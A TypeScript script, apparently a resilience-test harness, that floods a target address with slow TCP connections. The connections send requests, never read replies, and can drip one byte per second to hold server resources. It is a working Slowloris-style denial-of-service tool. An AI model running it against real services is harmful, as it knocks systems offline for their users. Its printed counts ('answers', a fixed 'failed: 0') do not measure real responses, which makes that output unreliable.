import { connect, type Socket } from 'node:net'
import { setPriority } from 'node:os'
import { setTimeout as pause } from 'node:timers/promises'

/**
 * slow-flood.ts <address> <seconds> <requests as JSON> [drip]: connections that send one of the requests each and read
 * nothing, 540 in the first three seconds, then 18 a second, as their ends are not seen; `drip`: each
 * sends a byte of its body every second. Prints one line of JSON.
 */
// An attacker does not compute on the processors of the service.
setPriority(19)
const [address = '', seconds = '5', listed = '[]', drip] = process.argv.slice(2)
const { hostname, port } = new URL(address)
const requests = JSON.parse(listed) as string[]
const [first, atOnce] = [540, 9]

const sockets: Socket[] = []
const until = performance.now() + Number(seconds) * 1000
const dripping = drip && setInterval(() => sockets.forEach(socket => socket.writable && socket.write('x')), 1000)
while (performance.now() < until) {
  for (let opened = 0; opened < atOnce; opened += 1) {
    const socket = connect(Number(port), hostname).pause()
    socket.on('error', () => socket.destroy()).write(requests[sockets.length % requests.length] ?? '')
    sockets.push(socket)
  }
  await pause(sockets.length < first ? 50 : 500)
}
clearInterval(dripping || undefined)
process.stdout.write(`${JSON.stringify({ answers: sockets.length, failed: 0 })}\n`, () => process.exit())
